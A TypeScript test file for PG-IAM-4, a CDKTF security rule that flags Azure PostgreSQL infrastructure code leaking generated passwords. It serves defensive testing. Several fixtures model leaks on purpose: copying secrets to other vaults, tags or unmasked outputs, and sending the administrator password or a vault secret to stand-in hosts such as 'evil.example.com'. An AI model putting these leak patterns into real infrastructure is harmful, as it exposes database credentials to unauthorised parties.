import { mkdtempSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { DataAzurermKeyVaultSecret } from '@cdktf/provider-azurerm/lib/data-azurerm-key-vault-secret';
import { KeyVault } from '@cdktf/provider-azurerm/lib/key-vault';
import { KeyVaultSecret } from '@cdktf/provider-azurerm/lib/key-vault-secret';
import { AzurermProvider } from '@cdktf/provider-azurerm/lib/provider';
import { PostgresqlProvider } from '@cdktf/provider-postgresql/lib/provider';
import { Role } from '@cdktf/provider-postgresql/lib/role';
import { DataTerraformRemoteStateLocal, Fn, TerraformLocal, TerraformOutput, TerraformResource, TerraformStack, TerraformVariable } from 'cdktf';
import { ResourceGroup } from '@cdktf/provider-azurerm/lib/resource-group';
import { Construct } from 'constructs';
import { rule } from '../../../lib/checks/rules/PG-IAM-4';
import { EXIT_FINDINGS, EXIT_OK } from '../../../lib/cli/check-command';
import { PostgresSecurityChecks } from '../../../lib';
import { check } from '../../cli/cli-harness';
import { synthErrors } from '../../helpers';
import { accessStack } from '../../support/database-fixture';

// A4-4 and A5-9 at synth and in check: copies of the passwords a construct generates. The rule's own cases
// are in PG-IAM-4.test.ts, which loads no cdktf (it runs in the mutation group of the rules).

const OTHER_VAULT = '/subscriptions/99999999-0000-0000-0000-000000000000/resourceGroups/rg-x/providers/Microsoft.KeyVault/vaults/kv-elsewhere';

describe('synth and check', () => {
  function copied(configure: (scope: TerraformStack, password: string, copy: () => TerraformResource) => void): TerraformStack {
    const { stack: scope, server } = accessStack();
    new AzurermProvider(scope, 'azurerm', { features: [{}] });
    const copy = () => new KeyVaultSecret(scope, 'Copy', { name: 'pg-admin', valueWo: server.administratorPassword!, valueWoVersion: 1, keyVaultId: OTHER_VAULT });
    configure(scope, server.administratorPassword!, copy);
    return scope;
  }
  const checkOf = (scope: TerraformStack) => {
    const file = join(mkdtempSync(join(tmpdir(), 'copies-')), 'cdk.tf.json');
    writeFileSync(file, JSON.stringify(scope.toTerraform()));
    return check('check', file);
  };
  const LINE = (generator: string, maker: string) => `  [orders] azurerm_key_vault_secret.Copy PG-IAM-4 azurerm_key_vault_secret.Copy reads ${generator}, a password ${maker} generates, and copies it where no rule of the pack judges who can read it. Fix: ${rule.fix}`;

  test('the server and its DatabaseAccess as made pass synth and check', () => {
    const scope = copied(() => undefined);
    expect(synthErrors(scope)).toEqual([]);
    expect(checkOf(scope).code).toBe(EXIT_OK);
  });

  test('a Key Vault secret beside the construct that copies the administrator password to another vault fails synth and check', () => {
    const scope = copied((_scope, _password, copy) => copy());
    expect(synthErrors(scope)).toEqual([LINE('random_password.Postgres_AdministratorPassword_5805CB74', 'orders/Postgres')]);
    const checked = checkOf(scope);
    expect(checked.code).toBe(EXIT_FINDINGS);
    expect(checked.out.filter((text) => text.includes('PG-IAM-4'))).toHaveLength(1);
  });

  test('a provider that signs in with the value of a lookup of the construct\'s vaulted password fails synth and check (A14b-18)', () => {
    const scope = copied((stack) => {
      // The Key Vault secret the fixture's DatabaseAccess password member is written to.
      const made = stack.node.findAll().find((child) => child instanceof KeyVaultSecret) as KeyVaultSecret;
      const look = new DataAzurermKeyVaultSecret(stack, 'Look', { name: made.name, keyVaultId: made.keyVaultId });
      const leak = new AzurermProvider(stack, 'Leak', { alias: 'leak', features: [{}], clientSecret: look.value, metadataHost: 'evil.example.com' });
      new ResourceGroup(stack, 'Elsewhere', { provider: leak, name: 'rg-elsewhere', location: 'westeurope' });
    });
    const lines = synthErrors(scope).filter((line) => line.includes(' PG-IAM-4 '));
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain('azurerm_resource_group.Elsewhere PG-IAM-4 provider azurerm.leak reads the value of data.azurerm_key_vault_secret.Look');
    expect(checkOf(scope).code).toBe(EXIT_FINDINGS);
  });

  test('a copy of a DatabaseAccess password member\'s password fails synth', () => {
    const { stack: scope, access } = accessStack();
    new AzurermProvider(scope, 'azurerm', { features: [{}] });
    const generator = access.node.findChild('PasswordRole-billing_vendor').node.findChild('Password') as TerraformResource;
    new KeyVaultSecret(scope, 'Copy', { name: 'vendor', valueWo: (generator as unknown as { result: string }).result, valueWoVersion: 1, keyVaultId: OTHER_VAULT });
    expect(synthErrors(scope)).toEqual([LINE(`random_password.${scope.getLogicalId(generator)}`, 'orders/OrdersAccess')]);
  });

  test('a copy through a local value fails; reviewed and suppressed on the resource with a reason, it passes', () => {
    const scope = copied((inner, password) => {
      const local = new TerraformLocal(inner, 'pw', password);
      new KeyVaultSecret(inner, 'Copy', { name: 'pg-admin', valueWo: local.asString, valueWoVersion: 1, keyVaultId: OTHER_VAULT });
    });
    expect(synthErrors(scope)).toEqual([LINE('random_password.Postgres_AdministratorPassword_5805CB74', 'orders/Postgres')]);
    PostgresSecurityChecks.suppress(scope.node.findChild('Copy'), 'PG-IAM-4', 'break-glass copy in the platform vault, SEC-611');
    expect(synthErrors(scope)).toEqual([]);
  });

  test('the administrator password copied into the construct\'s own server tags fails synth and check (A10a-16)', () => {
    const { stack: scope, server } = accessStack();
    new AzurermProvider(scope, 'azurerm', { features: [{}] });
    server.server.addOverride('tags.note', server.administratorPassword!);
    const address = `azurerm_postgresql_flexible_server.${scope.getLogicalId(server.server)}`;
    const message = `${address} reads random_password.Postgres_AdministratorPassword_5805CB74, a password orders/Postgres generates, and copies it where no rule of the pack judges who can read it.`;
    expect(synthErrors(scope).filter((text) => text.includes('PG-IAM-4'))).toEqual([`  [orders] ${address} PG-IAM-4 ${message} Fix: ${rule.fix}`]);
    const checked = checkOf(scope);
    expect(checked.code).toBe(EXIT_FINDINGS);
    expect(checked.out.filter((text) => text.includes('PG-IAM-4'))).toEqual([`  ERROR      PG-IAM-4   ${address}: ${message} Fix: ${rule.fix}`]);
  });

  test('a password member\'s password copied into its own role\'s search_path fails synth (A10a-16)', () => {
    const { stack: scope, access } = accessStack();
    new AzurermProvider(scope, 'azurerm', { features: [{}] });
    const member = access.node.findChild('PasswordRole-billing_vendor');
    const role = member.node.findChild('Role') as TerraformResource;
    role.addOverride('search_path', [(member.node.findChild('Password') as unknown as { result: string }).result]);
    const generator = `random_password.${scope.getLogicalId(member.node.findChild('Password') as TerraformResource)}`;
    const address = `postgresql_role.${scope.getLogicalId(role)}`;
    expect(synthErrors(scope).filter((text) => text.includes('PG-IAM-4'))).toEqual([
      `  [orders] ${address} PG-IAM-4 ${address} reads ${generator}, a password orders/OrdersAccess generates, and copies it where no rule of the pack judges who can read it. Fix: ${rule.fix}`,
    ]);
  });

  describe('a password member\'s Key Vault secret looked up by a name known only at apply time (A13-5)', () => {
    const SECRET = 'orders/OrdersAccess/PasswordRole-billing_vendor/Secret';
    /** A resource group whose tag holds the value of a secret looked up by `name` in `vault` (the DatabaseAccess's by default). */
    const lookedUp = (name: (scope: TerraformStack) => string, vault?: (scope: TerraformStack) => string) => copied((inner) => {
      const secret = inner.node.findAll().find((c) => c.node.path === SECRET) as KeyVaultSecret;
      const look = new DataAzurermKeyVaultSecret(inner, 'Look', { name: name(inner), keyVaultId: vault?.(inner) ?? secret.keyVaultIdInput! });
      new ResourceGroup(inner, 'Leak', { name: 'rg-x', location: 'westeurope', tags: { leak: look.value } });
    });
    const variable = (scope: TerraformStack) => new TerraformVariable(scope, 'secret_name', { type: 'string', default: 'orders-db-billing-vendor-password' }).stringValue;

    test('a lookup by a variable name in its vault, its value written into tags, fails synth and check with PG-IAM-4; suppressed on the reader, it passes', () => {
      const scope = lookedUp(variable);
      const generator = `random_password.${scope.getLogicalId(scope.node.findAll().find((c) => c.node.path === 'orders/OrdersAccess/PasswordRole-billing_vendor/Password') as TerraformResource)}`;
      expect(synthErrors(scope)).toEqual([`  [orders] azurerm_resource_group.Leak PG-IAM-4 azurerm_resource_group.Leak reads the value of data.azurerm_key_vault_secret.Look, whose name "\${var.secret_name}" is known only at apply time and may be the Key Vault secret written from ${generator}, a password orders/OrdersAccess generates, and copies it where no rule of the pack judges who can read it. Fix: ${rule.fix}`]);
      expect(checkOf(scope).code).toBe(EXIT_FINDINGS);
      PostgresSecurityChecks.suppress(scope.node.findChild('Leak'), 'PG-IAM-4', 'break-glass copy reviewed in SEC-614');
      expect(synthErrors(scope).filter((text) => text.includes('PG-IAM-4'))).toEqual([]);
    });

    test('a lookup by the literal name the construct spells from the server\'s name fails synth', () => {
      // The secret's name in the JSON is "${azurerm_postgresql_flexible_server.<server>.name}-billing-vendor-password".
      const scope = lookedUp(() => 'Orders-DB-billing-vendor-password');
      expect(synthErrors(scope).join('\n')).toMatch(/data\.azurerm_key_vault_secret\.Look, a lookup by the name and vault of the Key Vault secret written from random_password\.OrdersAccess_PasswordRole-billing_vendor_Password_\w+, a password orders\/OrdersAccess generates/);
    });

    test('a lookup by a variable name in another vault, or by another literal name, passes', () => {
      expect(synthErrors(lookedUp(variable, () => OTHER_VAULT))).toEqual([]);
      expect(synthErrors(lookedUp(() => 'orders-app-settings'))).toEqual([]);
      expect(synthErrors(lookedUp(variable, (scope) => new KeyVault(scope, 'Other', { name: 'kv-other', location: 'westeurope', resourceGroupName: 'rg-x', tenantId: 't', skuName: 'standard' }).id))).toEqual([]);
    });
  });

  test('a sensitive Terraform output of the password passes: the state holds the password already, and Terraform prints it as (sensitive value)', () => {
    const scope = copied((inner, password) => new TerraformOutput(inner, 'password', { value: password, sensitive: true }));
    expect(synthErrors(scope)).toEqual([]);
  });

  test('an output of the password stripped of its sensitivity with nonsensitive() fails synth and check; through a DatabaseAccess member\'s too (A15a-2)', () => {
    const scope = copied((inner, password) => new TerraformOutput(inner, 'password', { value: Fn.nonsensitive(password) }));
    const message = 'output.password reads random_password.Postgres_AdministratorPassword_5805CB74, a password orders/Postgres generates, and Terraform prints it in clear in every plan and apply log and in `terraform output`: the output is not `sensitive = true`, or strips the password\'s sensitivity with `nonsensitive()`.';
    expect(synthErrors(scope)).toEqual([`  [orders] output.password PG-IAM-4 ${message} Fix: ${rule.fix}`]);
    const checked = checkOf(scope);
    expect(checked.code).toBe(EXIT_FINDINGS);
    expect(checked.out.filter((text) => text.includes('PG-IAM-4'))).toEqual([`  ERROR      PG-IAM-4   output.password: ${message} Fix: ${rule.fix}`]);
    const { stack: member, access } = accessStack();
    const generator = access.node.findChild('PasswordRole-billing_vendor').node.findChild('Password') as TerraformResource;
    new TerraformOutput(member, 'vendor', { value: Fn.nonsensitive((generator as unknown as { result: string }).result) });
    expect(synthErrors(member).filter((text) => text.includes('PG-IAM-4'))).toEqual([
      `  [orders] output.vendor PG-IAM-4 output.vendor reads random_password.${member.getLogicalId(generator)}, a password orders/OrdersAccess generates, and Terraform prints it in clear in every plan and apply log and in \`terraform output\`: the output is not \`sensitive = true\`, or strips the password's sensitivity with \`nonsensitive()\`. Fix: ${rule.fix}`,
    ]);
  });

  test('an output of the password read back through terraform_remote_state into a resource fails synth and check; suppressed on the reader, it passes (A12b-6)', () => {
    let reader: ResourceGroup | undefined;
    const scope = copied((inner, password) => {
      new TerraformOutput(inner, 'password', { value: password, sensitive: true });
      const self = new DataTerraformRemoteStateLocal(inner, 'Self', { path: 'terraform.orders.tfstate' });
      reader = new ResourceGroup(inner, 'Reader', { name: 'rg-x', location: 'westeurope', tags: { note: self.getString('password') } });
    });
    const message = 'azurerm_resource_group.Reader reads random_password.Postgres_AdministratorPassword_5805CB74 through output.password, read back by data.terraform_remote_state.Self (a state the checks cannot tell from this stack\'s), a password orders/Postgres generates, and copies it where no rule of the pack judges who can read it.';
    expect(synthErrors(scope)).toEqual([`  [orders] azurerm_resource_group.Reader PG-IAM-4 ${message} Fix: ${rule.fix}`]);
    const checked = checkOf(scope);
    expect(checked.code).toBe(EXIT_FINDINGS);
    expect(checked.out.filter((text) => text.includes('PG-IAM-4'))).toEqual([`  ERROR      PG-IAM-4   azurerm_resource_group.Reader: ${message} Fix: ${rule.fix}`]);
    PostgresSecurityChecks.suppress(reader!, 'PG-IAM-4', 'break-glass copy reviewed in SEC-613');
    expect(synthErrors(scope)).toEqual([]);
  });

  test.each([
    ['as it is', (password: string) => password, ''],
    ['in an expression', (password: string) => Fn.upper(password), ' through output.password, read back by data.terraform_remote_state.Orders (a state the checks cannot tell from this stack\'s)'],
  ])('an output of the password (%s) read back into another stack of the app through terraform_remote_state fails that stack\'s synth (A12b-6)', (_how, value, through) => {
    const scope = copied((inner, password) => new TerraformOutput(inner, 'password', { value: value(password), sensitive: true }));
    const reader = new TerraformStack(scope.node.root as Construct, 'reader');
    new AzurermProvider(reader, 'azurerm', { features: [{}] });
    const state = new DataTerraformRemoteStateLocal(reader, 'Orders', { path: '../orders/terraform.orders.tfstate' });
    new ResourceGroup(reader, 'Tagged', { name: 'rg-x', location: 'westeurope', tags: { note: state.getString('password') } });
    expect(synthErrors(scope)).toEqual([]);
    expect(synthErrors(reader).filter((text) => text.includes('PG-IAM-4'))).toEqual([
      `  [reader] azurerm_resource_group.Tagged PG-IAM-4 azurerm_resource_group.Tagged reads random_password.Postgres_AdministratorPassword_5805CB74 (stack "orders")${through}, a password orders/Postgres generates, and copies it where no rule of the pack judges who can read it. Fix: ${rule.fix}`,
    ]);
  });

  test('a postgresql provider to another host signed in with the administrator password fails synth and check; suppressed on the resource that uses it, it passes (A5-9)', () => {
    let reader: Role | undefined;
    const scope = copied((inner, password) => {
      const provider = new PostgresqlProvider(inner, 'Elsewhere', { alias: 'elsewhere', host: 'collector.example.net', database: 'postgres', username: 'pgadmin_orders', password, sslmode: 'verify-full', superuser: false });
      reader = new Role(inner, 'Reader', { provider, name: 'reader', login: false });
    });
    const message = 'provider postgresql.elsewhere reads random_password.Postgres_AdministratorPassword_5805CB74, a password orders/Postgres generates, and sends it to whatever it signs in to for postgresql_role.Reader; no rule of the pack judges where.';
    expect(synthErrors(scope).filter((text) => text.includes('PG-IAM-4'))).toEqual([`  [orders] postgresql_role.Reader PG-IAM-4 ${message} Fix: ${rule.fix}`]);
    const checked = checkOf(scope);
    expect(checked.code).toBe(EXIT_FINDINGS);
    expect(checked.out.filter((text) => text.includes('PG-IAM-4'))).toEqual([`  ERROR      PG-IAM-4   postgresql_role.Reader: ${message} Fix: ${rule.fix}`]);
    PostgresSecurityChecks.suppress(reader!, 'PG-IAM-4', 'vendor collector receives the break-glass login, SEC-612');
    expect(synthErrors(scope).filter((text) => text.includes('PG-IAM-4'))).toEqual([]);
  });

  test('a data source of any type that reads the password fails synth and check; suppressed on the data source with a reason, it passes (A11a-5)', () => {
    // An azurerm lookup puts the name it is given in the request path.
    const scope = copied((inner, password) => new DataAzurermKeyVaultSecret(inner, 'Lookup', { name: password, keyVaultId: OTHER_VAULT }));
    const message = 'data.azurerm_key_vault_secret.Lookup reads random_password.Postgres_AdministratorPassword_5805CB74, a password orders/Postgres generates, and copies it where no rule of the pack judges who can read it.';
    expect(synthErrors(scope)).toEqual([`  [orders] data.azurerm_key_vault_secret.Lookup PG-IAM-4 ${message} Fix: ${rule.fix}`]);
    const checked = checkOf(scope);
    expect(checked.code).toBe(EXIT_FINDINGS);
    expect(checked.out.filter((text) => text.includes('PG-IAM-4'))).toEqual([`  ERROR      PG-IAM-4   data.azurerm_key_vault_secret.Lookup: ${message} Fix: ${rule.fix}`]);
    PostgresSecurityChecks.suppress(scope.node.findChild('Lookup'), 'PG-IAM-4', 'split-horizon probe reviewed in SEC-612');
    expect(synthErrors(scope)).toEqual([]);
    expect(checkOf(scope).code).toBe(EXIT_OK);
  });
});
